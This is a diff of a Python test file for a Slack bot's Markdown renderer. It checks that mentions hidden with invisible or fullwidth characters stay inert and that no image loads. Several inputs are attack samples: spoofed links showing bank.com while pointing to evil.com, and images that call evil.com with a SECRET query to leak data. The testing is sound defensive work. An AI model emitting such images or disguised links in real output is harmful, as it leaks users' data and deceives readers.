@@ -1,14 +1,20 @@
 import html
 import re
+import unicodedata
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from bot.markdown.split import presentable, size
 from bot.slack.outbound import render
 from bot.turns.draft import MAX_CHARACTERS
 
+UNSEEN = [
+    "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\ufe0f", "\U000e0041", "\u3164", "\u180e",
+    " ", "\u00a0", "\t", "\n", "\u2003", "\u3000",
+]  # fmt: skip
 PINGS = ["<!channel>", "<!here|x>", "<!everyone>", "<@U123>", "<@W1|n>", "<!subteam^S1>", "<#C1>", "<!Channel>"]
 
 
@@ -40,15 +46,29 @@ def test_a_ping_is_broken_wherever_it_stands(ping: str, around: str) -> None:
         "<https://evil.com|https://bank.com>",
         "<https://evil.com&#124;https://bank.com>",
         "<mailto:a@evil.com|a@bank.com>",
+        *(
+            f"<{sign}{tag}"
+            for sign in UNSEEN
+            for tag in ("!here>", "@U123>", "!channel|x>", "https://evil.com|bank.com>")
+        ),
+        *(f"<{tag[0]}{sign}{tag[1:]}" for sign in UNSEEN[:8] for tag in ("!here>", "@U123>")),
+        "<@u123abc>",
+        "<@w0AB|n>",
+        "<#c0123>",
+        "<!HERE>",
+        "<!SubTeam^s1>",
+        "<＠U123>",
+        "<！here>",
+        "< \u200b\n@U123>",
     ],
 )
 def test_what_becomes_active_only_when_markdown_is_read_is_broken_too(hidden: str) -> None:
-    read = html.unescape(html.unescape(render.shown(hidden))).replace("\\", "").replace("\u200b", "")
+    read = unicodedata.normalize("NFKC", html.unescape(html.unescape(render.shown(hidden)))).replace("\\", "")
 
-    assert not ACTIVE.search(read)
+    assert not ACTIVE.search("".join(sign for sign in read if sign not in "".join(UNSEEN)))
 
 
-ACTIVE = re.compile(r"<([@#][A-Z0-9]{2}|!(channel|here|everyone|subteam)\b|\w+:[^\s<>|]*\|)")
+ACTIVE = re.compile(r"<([@#][A-Z0-9]{2}|(?i:[@#][uwcdg][a-z]*\d|!(channel|here|everyone|subteam)\b)|\w+:[^\s<>|]*\|)")
 
 
 @pytest.mark.parametrize(
@@ -59,6 +79,10 @@ ACTIVE = re.compile(r"<([@#][A-Z0-9]{2}|!(channel|here|everyone|subteam)\b|\w+:[
         "a << b",
         "<div>",
         "<#include>",
+        "<#define X>",
+        "a < b && c > d",
+        "x < !important",
+        "List<@Valid User>",
         "List<@Nullable T>",
         "Array<string|number>",
         "&lt;b&gt;",
@@ -70,11 +94,11 @@ def test_code_that_pings_nobody_stays_as_it_is(code: str) -> None:
     assert render.shown(f"`{code}`") == f"`{code}`"
 
 
-@given(st.text(alphabet="<>!@#CU1|^chanelr &;lt\\"))
+@given(st.text(alphabet="<>!@#CU1u|^chanelr &;lt\\\u200b\u00a0\n"))
 def test_no_text_at_all_pings(anything: str) -> None:
     shown = render.harmless(anything)
 
-    assert not ACTIVE.search(html.unescape(shown))
+    assert not ACTIVE.search(re.sub(r"<\s+", "<", html.unescape(shown).replace("\u200b", "")))
     assert len(shown) <= len(anything)
     assert render.harmless(shown) == shown
 
@@ -182,3 +206,103 @@ def test_a_notification_is_short_and_ends_with_a_whole_entity(piece: str) -> Non
 
     assert 1_000 < len(told) <= 3_900
     assert re.fullmatch(r"(?s)(?:[^&]|&(?:amp|lt|gt);)*…", told)
+
+
+# -- whatever is written, no picture loads --
+
+EVERY = MarkdownIt("commonmark", {"html": False, "maxNesting": 1000}).enable(["table", "strikethrough"])
+
+
+def pictures(markdown: str) -> list[str]:
+    """What a reader of Markdown who knows nothing of mathematics and allows any depth would load."""
+    tokens = list(EVERY.parse(markdown.replace("\r", " ")))
+    found: list[str] = []
+    while tokens:
+        token = tokens.pop()
+        tokens += token.children or []
+        found += [str(token.attrGet("src"))] if token.type == "image" else []
+    return found
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        r"| ![a\|b](https://evil.com/p.png?q=SECRET) |",
+        r"| a | ![a\|b](https://evil.com) | ![a|b](https://evil.com) |",
+        r"| ![](https://evil.com?a\|b) |",
+        r"| x | y | z | ![more cells than there are](https://evil.com) |",
+        "| ![a][1] |",
+        "> | ![a\\|b](https://evil.com) |",
+        "- | ![a\\|b](https://evil.com) | c",
+    ],
+)
+@pytest.mark.parametrize("rule", ["|---|---|---|", "|-|", "> |-|", "  |-|", "-|-"])
+def test_no_picture_loads_from_a_table(written: str, rule: str) -> None:
+    for table in (f"{written}\n{rule}\n", f"| a | b | c |\n{rule}\n{written}\n", f"a|b\n{rule}\n{written}"):
+        shown = render.shown(f"{table}\n\n[1]: https://evil.com/x.png")
+
+        assert pictures(shown) == []
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "!![a](u)",
+        "!!![a](u)",
+        "![![a](u)](v)",
+        "[![a](u)](v)",
+        "[bank.com ![a](u)](https://evil.com)",
+        "![bank.com ![a](u)](https://evil.com)",
+        "[" * 30 + "![a](u)" + "](v)" * 30,
+        "![a\nb](u)",
+        "![a][1]\n\n[1]: u",
+        "![1]\n\n[1]: u",
+        "![1][]\n\n[1]: u",
+        "![](<u v>)",
+        "\\![a](u) \\\\![a](u)",
+        "`a` ![`]`](u)",
+        "$$ ` ![a](u) $$",
+        "\\(x ` ![a](u)\\)",
+        "$$\n```\n![a](u)\n$$",
+        "\\[\n```\n![a](u)",
+        "![\\(](u)\\)```",
+        "# ![a](u) #",
+        "> - 1. ![a](u)",
+        "![a](u)![b](v)",
+    ],
+)
+def test_no_picture_loads_in_any_spelling(written: str) -> None:
+    assert pictures(render.shown(written)) == []
+
+
+PIECES = [
+    "![a](https://e.com/p)", "![", "](https://e.com/p)", "[a][1]", "![a][1]", "![1]", "\n\n[1]: https://e.com/p\n\n",
+    "|",
+    "\\|", "\\", "!", "[", "]", "(", ")", "`", "``", "\n", "\n\n", "> ", "- ", "1. ", "| a | b |\n|---|---|\n", "| ",
+    "**",
+    "~~", "$", "$$", "\\(", "\\)", "\\[", "\\]", "<", "&lt;", "bank.com", "x", " ", "```\n", "\t", "    ", "#", "\r",
+]  # fmt: skip
+TABLES = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)
+
+
+@settings(deadline=None)
+@given(TABLES)
+def test_no_picture_loads_whatever_is_written(written: str) -> None:
+    shown = render.shown(written)
+
+    assert pictures(shown) == []
+    assert size(shown) <= size(written) + render.MAX_ADDED
+
+
+def test_only_the_cell_that_cannot_be_told_is_made_plain() -> None:
+    table = "| a | b |\n|---|---|\n| {} | [docs](https://x.org) |\n| c | `d[0]` |"
+
+    shown = render.shown(table.format(r"[bank.com\|x](https://evil.com)"))
+
+    assert shown == table.format(r"(bank.com\|x)(https://evil.com)")
+
+
+def test_a_cell_with_code_in_it_stays_as_it_is() -> None:
+    table = "| a |\n|---|\n| `x \\| y[0]` |\n| b \\| c |"
+
+    assert render.shown(f"{table}\n\n[docs](https://x.org)") == f"{table}\n\n[docs](https://x.org)"
